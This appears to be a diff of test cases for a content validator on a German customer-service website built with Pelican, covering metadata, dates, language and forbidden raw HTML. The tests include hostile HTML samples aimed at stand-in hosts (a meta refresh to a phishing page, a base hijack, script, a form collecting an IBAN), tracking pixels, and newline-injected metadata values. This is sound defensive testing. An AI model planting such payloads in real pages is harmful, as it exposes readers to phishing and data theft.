@@ -51,6 +51,29 @@ TITLE_TOO_LONG_FOR_ADDRESS = ("Was Kundinnen und Kunden in Kiel, Plön und Ecker
                               "wissen sollten")
 NOTICE = RESOLVED
 
+
+
+def article_text(body):
+    return article().replace("Text mit einem Absatz.", body)
+
+
+def faq_answer(body):
+    return FAQ.replace("Über das Kundenportal oder telefonisch.", body)
+
+
+# An element that acts on its own, typed into a text as raw HTML.
+ACTIVE_ELEMENTS = {
+    "meta": '<meta http-equiv="refresh" content="1; url=https://evil.example/phish">',
+    "base": '<base href="https://evil.example/">',
+    "script": "<script>alert(1)</script>",
+    "style": "<style>body { display: none }</style>",
+    "link": '<link rel="stylesheet" href="https://evil.example/a.css">',
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "object": '<object data="https://evil.example/x.swf"></object>',
+    "embed": '<embed src="https://evil.example/x.swf">',
+    "form": '<form action="https://evil.example/"><input name="iban"></form>',
+}
+
 # name → (file, text, strict, words the one problem must contain)
 CASES = {
     "article not UTF-8": (
@@ -101,6 +124,124 @@ CASES = {
     "tags line without a tag (strict)": (
         "artikel/kaputt.md", article(Tags=",,, ,"), True,
         ["content/artikel/kaputt.md: Tags: ", "',,, ,' holds no tag"]),
+    # A short value cut over two lines is a mistake; texts may go on (see the test below).
+    "article date going on over an indented line": (
+        "artikel/kaputt.md", article(Date="2026-11-01\n    10:00"), False,
+        ["content/artikel/kaputt.md:2: Date: ", "goes on over the indented line 3",
+         "whole value on one line"]),
+    "article category going on over an indented line": (
+        "artikel/kaputt.md", article(Category="Kundendialog\n    Störung"), False,
+        ["content/artikel/kaputt.md:3: Category: ", "indented line 4"]),
+    "article slug going on over an indented line": (
+        "artikel/kaputt.md", article(Slug="noch-ein-\n    beitrag"), False,
+        ["content/artikel/kaputt.md:7: Slug: ", "indented line 8"]),
+    "article title given twice": (
+        "artikel/kaputt.md", article() .replace("Title: Noch ein Beitrag", "Title: A\nTitle: B"), False,
+        ["content/artikel/kaputt.md: Title: ", "given 2 times; expected it once"]),
+    # Dates: Modified is a change that happened, a time is one Berlin's clocks show once.
+    "article modified in the future": (
+        "artikel/kaputt.md", article(Modified="2027-11-01 10:00"), False,
+        ["content/artikel/kaputt.md: Modified: ", "2027-11-01 10:00 is after now (2026-11-24 12:00)",
+         "cannot lie in the future"]),
+    "article modified before its date": (
+        "artikel/kaputt.md", article(Modified="2026-10-01 10:00"), False,
+        ["content/artikel/kaputt.md: Modified: ", "2026-10-01 10:00 is before Date 2026-11-01 10:00"]),
+    "article date the clocks skip": (
+        "artikel/kaputt.md", article(Date="2026-03-29 02:30"), False,
+        ["content/artikel/kaputt.md: Date: ", "'2026-03-29 02:30' does not exist in Europe/Berlin",
+         "2026-03-29 02:30+01:00"]),
+    "article date the clocks show twice": (
+        "artikel/kaputt.md", article(Date="2026-10-25 02:30"), False,
+        ["content/artikel/kaputt.md: Date: ", "happens twice", "2026-10-25 02:30+02:00"]),
+    "page modified in the future": (
+        "seiten/kaputt.md", "Title: Kontakt\nModified: 2026-12-24 10:00\n\nText.\n", False,
+        ["content/seiten/kaputt.md: Modified: ", "is after now"]),
+    "FAQ modified in the future": (
+        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 2027-11-01 10:00"), False,
+        ["content/faq/kaputt.md: Modified: ", "2027-11-01 10:00 is after now"]),
+    "FAQ modified at a time the clocks show twice": (
+        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 25.10.2026 02:30"), False,
+        ["content/faq/kaputt.md: Modified: ", "happens twice"]),
+    # The site is German only.
+    "article in English": (
+        "artikel/kaputt.md", article(Lang="en"), False,
+        ["content/artikel/kaputt.md: Lang: ", "'en' is not the language of the site", "expected 'de'"]),
+    "page in English": (
+        "seiten/kaputt.md", "Title: Contact\nLang: en\n\nHow to reach us.\n", False,
+        ["content/seiten/kaputt.md: Lang: ", "'en' is not the language of the site"]),
+    "article marked as a translation": (
+        "artikel/kaputt.md", article(Translation="true"), False,
+        ["content/artikel/kaputt.md: Translation: ", "unknown metadata key"]),
+    # Values Pelican would report without the file, or with its own words.
+    "article status in German": (
+        "artikel/kaputt.md", article(Status="Entwurf"), False,
+        ["content/artikel/kaputt.md: Status: ", "'entwurf' is unknown",
+         "expected one of published, draft, hidden"]),
+    "page status unknown": (
+        "seiten/kaputt.md", "Title: Kontakt\nStatus: versteckt\n\nText.\n", False,
+        ["content/seiten/kaputt.md: Status: ", "'versteckt' is unknown"]),
+    "category without a letter": (
+        "artikel/kaputt.md", article(Category="???"), False,
+        ["content/artikel/kaputt.md: Category: ", "'???' gives no web address", "letters or digits"]),
+    "tag without a letter": (
+        "artikel/kaputt.md", article(Tags="Vertrauen, !!!"), False,
+        ["content/artikel/kaputt.md: Tags: ", "'!!!' gives no web address"]),
+    "FAQ tag without a letter": (
+        "faq/kaputt.md", FAQ.replace("Category:", "Tags: ???\nCategory:"), False,
+        ["content/faq/kaputt.md: Tags: ", "'???' gives no web address"]),
+    "notice tag without a letter": (
+        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg", "Slug: zweite\nTags: ..."),
+        False, ["content/stoerungen/kaputt.md: Tags: ", "'...' gives no web address"]),
+    "raw image with an unquoted src but no alt": (
+        "artikel/kaputt.md", article_text("<img src=/bilder/foto.png>"), False,
+        ["content/artikel/kaputt.md: image /bilder/foto.png: ", "no alt text"]),
+    "raw image with only a data-alt": (
+        "artikel/kaputt.md", article_text('<img src="/bilder/foto.png" data-alt="Foto">'), False,
+        ["content/artikel/kaputt.md: image /bilder/foto.png: ", "no alt text"]),
+    "article title with a direction override": (
+        "artikel/kaputt.md", article(Title="Neue Tarife \u202eab Januar"), False,
+        ["content/artikel/kaputt.md: Title: ", "U+202E", "type it again"]),
+    "FAQ question with a direction isolate": (
+        "faq/kaputt.md", FAQ.replace("Wie melde", "\u2067Wie melde"), False,
+        ["content/faq/kaputt.md: Question: ", "U+2067"]),
+    "notice title with a direction override": (
+        "stoerungen/kaputt.md", NOTICE.replace("Internet-Störung", "Internet-\u202dStörung"), False,
+        ["content/stoerungen/kaputt.md:1: Title: ", "U+202D"]),
+    # What a text may not contain (raw HTML is Markdown's, the feeds carry it unchanged).
+    **{f"article with a <{tag}> element": (
+        "artikel/kaputt.md", article_text(f"Text.\n\n{html}\n"), False,
+        ["content/artikel/kaputt.md: text: ", f"{'an' if tag in ('iframe', 'object', 'embed') else 'a'} "
+                                            f"<{tag}> element", "expected Markdown text only"])
+       for tag, html in ACTIVE_ELEMENTS.items()},
+    "article with a tracking image from another host": (
+        "artikel/kaputt.md", article_text("![Ein Zähler](https://tracker.example/pixel.gif)"), False,
+        ["content/artikel/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host",
+         "{static}/bilder/"]),
+    "article with an unquoted raw image from another host": (
+        "artikel/kaputt.md", article_text("<img src=//tracker.example/p.gif alt=Zähler>"), False,
+        ["content/artikel/kaputt.md: image //tracker.example/p.gif: ", "from another host"]),
+    "article with a srcset from another host": (
+        "artikel/kaputt.md", article_text('<img src="/bilder/foto.png" alt="Foto" '
+                                          'srcset="/bilder/foto.png 1x, https://cdn.example/f.png 2x">'), False,
+        ["content/artikel/kaputt.md: image https://cdn.example/f.png: ", "from another host"]),
+    "article with a video from another host": (
+        "artikel/kaputt.md", article_text('<video controls src="https://cdn.example/v.mp4"></video>'), False,
+        ["content/artikel/kaputt.md: <video> https://cdn.example/v.mp4: ", "from another host"]),
+    "article with a background image from another host": (
+        "artikel/kaputt.md", article_text('<p style="background: url(https://t.example/p.gif)">Text</p>'),
+        False, ["content/artikel/kaputt.md: <p> https://t.example/p.gif: ", "from another host"]),
+    "article with a link that reports clicks": (
+        "artikel/kaputt.md", article_text('<a href="/faq/" ping="https://t.example/p">FAQ</a>'), False,
+        ["content/artikel/kaputt.md: <a> ping: ", "reports each click"]),
+    "page with an iframe": (
+        "seiten/kaputt.md", 'Title: Kontakt\n\n<iframe src="https://maps.example/"></iframe>\n', False,
+        ["content/seiten/kaputt.md: text: ", "an <iframe> element"]),
+    "FAQ answer with a meta refresh": (
+        "faq/kaputt.md", faq_answer(ACTIVE_ELEMENTS["meta"]), False,
+        ["content/faq/kaputt.md: text: ", "a <meta> element", "another site"]),
+    "FAQ answer with an image from another host": (
+        "faq/kaputt.md", faq_answer("So: ![Ein Zähler](https://tracker.example/pixel.gif)"), False,
+        ["content/faq/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host"]),
     # Pages: the same fields, the same rules.
     "page slug with a slash": (
         "seiten/kaputt.md", "Title: Kontakt\nSlug: kontakt/team\n\nSo erreichen Sie uns.\n", False,
@@ -136,6 +277,12 @@ CASES = {
     "FAQ entry without an answer": (
         "faq/kaputt.md", FAQ.split("\n\n")[0] + "\n\n", False,
         ["content/faq/kaputt.md: text: ", "empty", "the answer"]),
+    "FAQ modified going on over an indented line": (
+        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 2026-11-01\n    10:00"), False,
+        ["content/faq/kaputt.md:3: Modified: ", "indented line 4"]),
+    "FAQ order going on over an indented line": (
+        "faq/kaputt.md", FAQ.replace("Category:", "Order: 1\n    2\nCategory:"), False,
+        ["content/faq/kaputt.md:2: Order: ", "indented line 3"]),
     "FAQ tags without a tag (strict)": (
         "faq/kaputt.md", FAQ.replace("Category:", "Tags: ,\nCategory:"), True,
         ["content/faq/kaputt.md: Tags: ", "',' holds no tag"]),
@@ -161,6 +308,16 @@ CASES = {
         "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg\n", "").replace(
             "Internet-Störung in Hamburg", TITLE_TOO_LONG_FOR_ADDRESS), False,
         ["content/stoerungen/kaputt.md:1: Title: ", "web address of 96 characters", "at most 80"]),
+    "notice start going on over an indented line": (
+        "stoerungen/kaputt.md", NOTICE.replace("Start: 2026-11-22 10:00", "Start: 2026-11-22\n    10:00"),
+        False, ["content/stoerungen/kaputt.md:6: Start: ", "indented line 7", "whole value on one line"]),
+    "notice start cut inside the time": (
+        "stoerungen/kaputt.md", NOTICE.replace("Start: 2026-11-22 10:00", "Start: 2026-11-22 10:\n    00"),
+        False, ["content/stoerungen/kaputt.md:6: Start: ", "indented line 7"]),
+    "notice slug going on over an indented line": (
+        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg",
+                                               "Slug: internet-\n    stoerung-hamburg"),
+        False, ["content/stoerungen/kaputt.md:2: Slug: ", "indented line 3"]),
     "notice tags without a tag (strict)": (
         "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg", "Slug: zweite\nTags: ,,"),
         True, ["content/stoerungen/kaputt.md: Tags: ", "',,' holds no tag"]),
@@ -217,6 +374,16 @@ def test_what_the_rules_still_allow(tmp_path):
         "artikel/bom.md": "\ufeff" + article(Title="Mit BOM").replace("\n", "\r\n"),
         "faq/entwurf.md": FAQ.replace("Category:", "Status: draft\nCategory:").split("\n\n")[0] + "\n\n",
         "seiten/mit-bild.md": "Title: Team\nImage: {static}/bilder/foto.png\nImage-Alt: Das Team\n\nText.\n",
+        # Own images, links to other sites, and HTML shown as code are text.
+        "artikel/bilder.md": article_text(
+            "![Foto]({static}/bilder/foto.png) <img src=\"/bilder/foto.png\" alt=\"Foto\"> "
+            "[Verbraucherzentrale](https://www.verbraucherzentrale.de/) `<script>` und "
+            "`<meta http-equiv=\"refresh\">`").replace("Noch ein Beitrag", "Mit Bildern"),
+        "artikel/deutsch.md": article(Title="Ausdrücklich deutsch", Lang="DE"),
+        "artikel/versteckt.md": article(Title="Versteckt", Status="Hidden"),
+        "artikel/unquoted.md": article_text("<img src=/bilder/foto.png alt=Foto>").replace(
+            "Noch ein Beitrag", "Ohne Anführungszeichen"),
+        "faq/bild.md": faq_answer("![Foto]({static}/bilder/foto.png) <a href=\"https://example.org/\">Mehr</a>"),
     }
     result, output = build_fixture_site(tmp_path, files, strict=True)
     assert result.ok, result.report()
@@ -224,6 +391,68 @@ def test_what_the_rules_still_allow(tmp_path):
     assert (output / "artikel" / "grenze" / "index.html").exists()
     assert (output / "artikel" / "mit-bom" / "index.html").exists()
     assert (output / "team" / "index.html").exists()
+    assert (output / "artikel" / "ausdruecklich-deutsch" / "index.html").exists()
+    assert not list(output.glob("*-de.html")) and not list(output.glob("*-DE.html"))
+
+
+def test_long_values_go_on_over_indented_lines_as_one_text(tmp_path):
+    """A title, question or tag list wrapped onto an indented line is one value
+    (the lines of a text joined with a space, of a list as more items), in the
+    page, its <title>, the feeds and the status API; never a Python list."""
+    import json
+
+    wrapped_title = "Warum wir Störungen öffentlich machen –\n    und was das bringt"
+    files = {
+        **GOOD,
+        "artikel/gut.md": article(Title=wrapped_title, Tags="Vertrauen,\n    Transparenz\n    Kiel",
+                                  Slug="warum"),
+        "faq/wie-lange.md": FAQ.replace("Question: Wie melde ich eine Störung?",
+                                        "Question: Wie lange dauert es,\n    bis die Störung behoben ist?"),
+        "stoerungen/internet-stoerung-hamburg.md": RESOLVED.replace(
+            "Title: Internet-Störung in Hamburg", "Title: Internet-Störung\n    in Hamburg"),
+    }
+    result, output = build_fixture_site(tmp_path, files, strict=True)
+    assert result.ok, result.report()
+    title = "Warum wir Störungen öffentlich machen – und was das bringt"
+    page = (output / "artikel" / "warum" / "index.html").read_text()
+    assert f"<h1>{title}</h1>" in page and f"<title>{title} – " in page
+    assert "[&#39;" not in page and "['" not in page
+    assert f"<title>{title}</title>" in (output / "feeds" / "all.atom.xml").read_text()
+    for tag in ("vertrauen", "transparenz", "kiel"):
+        assert (output / "themen" / tag / "index.html").exists(), tag
+    question = "Wie lange dauert es, bis die Störung behoben ist?"
+    assert f"<h1>{question}</h1>" in (output / "faq" / "wie-lange" / "index.html").read_text()
+    incidents = json.loads((output / "api" / "v2" / "incidents.json").read_text())["incidents"]
+    assert [i["name"] for i in incidents] == ["Internet-Störung in Hamburg"]
+
+
+def test_times_around_the_clock_change_with_an_offset_are_kept(tmp_path):
+    """The second 02:30 of 25 October, written with +01:00, stays winter time;
+    Modified may equal Date and may be "now"."""
+    files = {**GOOD, "artikel/gut.md": article(Date="2026-10-25 02:30+01:00", Modified="2026-11-24 12:00",
+                                               Slug="umstellung")}
+    result, output = build_fixture_site(tmp_path, files, strict=True)
+    assert result.ok, result.report()
+    page = (output / "artikel" / "umstellung" / "index.html").read_text()
+    assert '"datePublished": "2026-10-25T02:30:00+01:00"' in page or \
+        '"datePublished":"2026-10-25T02:30:00+01:00"' in page, page
+    assert "2026-10-25T02:30:00+02:00" not in page
+
+
+def test_new_post_keeps_each_value_on_its_line(tmp_path):
+    """A line break typed into --category, --tags or --author (e.g. $'Kat\\nX: y')
+    would start a metadata line of its own."""
+    from editorial.scaffold import new_post
+
+    path = new_post("Glasfaser für Kiel", content_path=str(tmp_path / "content"), category="Kat\nSlug: index",
+                    tags="a,\r\nSave_as: index.html", author="Miriam\tAlbers\nStatus: published",
+                    settings={"SITE_NOW": "2026-11-01T10:00:00+01:00"})
+    with open(path, encoding="utf-8") as handle:
+        header = handle.read().split("\n\n", 1)[0].splitlines()
+    assert [line.split(":", 1)[0] for line in header] == [
+        "Title", "Date", "Category", "Tags", "Authors", "Summary"]
+    assert "Category: Kat Slug: index" in header
+    assert "Authors: Miriam Albers Status: published" in header
 
 
 def test_new_post_with_a_long_title_gets_a_slug_line_that_builds(tmp_path):
